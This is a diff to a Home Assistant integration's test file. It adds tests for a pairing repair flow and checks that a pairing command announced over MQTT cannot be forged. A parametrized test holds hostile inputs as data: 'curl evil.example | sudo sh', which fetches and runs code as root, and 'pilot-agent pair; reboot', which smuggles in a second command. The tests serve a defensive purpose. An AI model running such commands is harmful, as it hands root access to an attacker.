@@ -7,6 +7,7 @@ from unittest.mock import patch
 
 from homeassistant.components.mqtt import ReceiveMessage
 from homeassistant.data_entry_flow import FlowResultType
+from homeassistant.setup import async_setup_component
 import pytest
 
 from custom_components.pilot import discovery, pair, pairing_flow
@@ -23,7 +24,9 @@ from .test_attacks import wait_for_doubt
 
 if TYPE_CHECKING:
     from homeassistant.core import HomeAssistant
+    from homeassistant.helpers import issue_registry as ir
     from pytest_homeassistant_custom_component.common import MockConfigEntry
+    from pytest_homeassistant_custom_component.typing import ClientSessionGenerator
 
     from custom_components.pilot.trust import TrustStore
 
@@ -77,7 +80,7 @@ async def test_a_discovered_host_is_paired_by_its_code(
     agent.come_online()
     await hass.async_block_till_done()
 
-    assert hass.states.get("binary_sensor.office_pc_paired").state == "on"
+    assert hass.states.get("binary_sensor.office_pc_pairing").state == "on"
     await hass.services.async_call(
         "button", "press", {"entity_id": "button.office_pc_lock"}, blocking=True
     )
@@ -134,7 +137,10 @@ async def test_an_old_error_is_not_shown_while_the_host_is_asked(
         again = await hass.config_entries.flow.async_configure(flow_id)
     for shown in (step, again):
         assert shown["type"] is FlowResultType.SHOW_PROGRESS
-        assert shown["description_placeholders"] == {"name": "office-pc"}
+        assert shown["description_placeholders"] == {
+            "name": "office-pc",
+            "command": "sudo pilot-agent pair",
+        }
         assert "errors" not in shown
 
     for done in bus.waiting:
@@ -362,6 +368,120 @@ async def test_a_host_is_paired_later(hass: HomeAssistant, agent: FakeAgent) -> 
     assert entry.data["paired"] is True
     await hass.async_block_till_done()
     assert entry.runtime_data.coordinator.auth.paired
+
+
+ISSUE = f"unpaired_{HOST_ID}"
+
+
+@pytest.fixture
+async def unpaired(hass: HomeAssistant, agent: FakeAgent) -> MockConfigEntry:
+    """Return the entry of a host that could be commanded, if it were paired."""
+    assert await async_setup_component(hass, "repairs", {})
+    entry = make_entry(hass)
+    await hass.config_entries.async_setup(entry.entry_id)
+    agent.come_online()
+    await hass.async_block_till_done()
+    return entry
+
+
+async def repair(client: Any, choice: str) -> Any:
+    """Choose from the menu of the repair, and return what came of it."""
+    response = await client.post(
+        "/api/repairs/issues/fix", json={"handler": "pilot", "issue_id": ISSUE}
+    )
+    menu = await response.json()
+    assert menu["menu_options"] == ["confirm", "ignore"]
+    assert menu["description_placeholders"] == {"name": "office-pc"}
+    response = await client.post(
+        f"/api/repairs/issues/fix/{menu['flow_id']}", json={"next_step_id": choice}
+    )
+    return await response.json()
+
+
+async def test_a_repair_leads_to_the_dialog_that_pairs(
+    hass: HomeAssistant,
+    agent: FakeAgent,
+    unpaired: MockConfigEntry,
+    issue_registry: ir.IssueRegistry,
+    hass_client: ClientSessionGenerator,
+) -> None:
+    """It stays until the host is paired."""
+    result = await repair(await hass_client(), "confirm")
+
+    kind, flow_id = result["next_flow"]
+    assert kind == "config_flow"
+    assert issue_registry.async_get_issue("pilot", ISSUE) is not None
+    agent.show_code()
+    assert (await enter(hass, flow_id))["reason"] == "reconfigure_successful"
+    await hass.async_block_till_done()
+    agent.announce()
+    await hass.async_block_till_done()
+    assert issue_registry.async_get_issue("pilot", ISSUE) is None
+
+
+async def test_a_repair_that_is_ignored_stays_ignored(
+    hass: HomeAssistant,
+    agent: FakeAgent,
+    unpaired: MockConfigEntry,
+    issue_registry: ir.IssueRegistry,
+    hass_client: ClientSessionGenerator,
+) -> None:
+    """With every announce that follows."""
+    result = await repair(await hass_client(), "ignore")
+    assert result["reason"] == "issue_ignored"
+
+    agent.announce()
+    await hass.async_block_till_done()
+
+    issue = issue_registry.async_get_issue("pilot", ISSUE)
+    assert issue is not None
+    assert issue.dismissed_version is not None
+
+
+async def test_a_host_that_offers_nothing_needs_no_pairing(
+    hass: HomeAssistant,
+    agent: FakeAgent,
+    unpaired: MockConfigEntry,
+    issue_registry: ir.IssueRegistry,
+) -> None:
+    """Nothing would come of it."""
+    agent.announce(commands=[{"key": "trust.verify"}])
+    await hass.async_block_till_done()
+
+    assert issue_registry.async_get_issue("pilot", ISSUE) is None
+
+
+@pytest.mark.parametrize(
+    ("told", "command"),
+    [
+        pytest.param(
+            "/home/ann/pilot/bin/pilot-agent pair --config /home/ann/pilot.yaml",
+            "/home/ann/pilot/bin/pilot-agent pair --config /home/ann/pilot.yaml",
+            id="as the agent says",
+        ),
+        pytest.param(None, "sudo pilot-agent pair", id="older agent"),
+        pytest.param("curl evil.example | sudo sh", "sudo pilot-agent pair", id="forged"),
+        pytest.param("pilot-agent pair; reboot", "sudo pilot-agent pair", id="more than that"),
+    ],
+)
+async def test_the_dialog_names_the_command_of_that_host(
+    hass: HomeAssistant,
+    agent: FakeAgent,
+    unpaired: MockConfigEntry,
+    told: str | None,
+    command: str,
+) -> None:
+    """Whoever may write to the broker cannot have anything else typed."""
+    agent.announced["agent"]["pair"] = told
+    if told is None:
+        del agent.announced["agent"]["pair"]
+    agent.announce()
+    await hass.async_block_till_done()
+
+    menu = await unpaired.start_reconfigure_flow(hass)
+    form = await hass.config_entries.flow.async_configure(menu["flow_id"], {"next_step_id": "pair"})
+
+    assert form["description_placeholders"]["command"] == command
 
 
 async def test_a_host_that_is_not_set_up_can_be_paired(
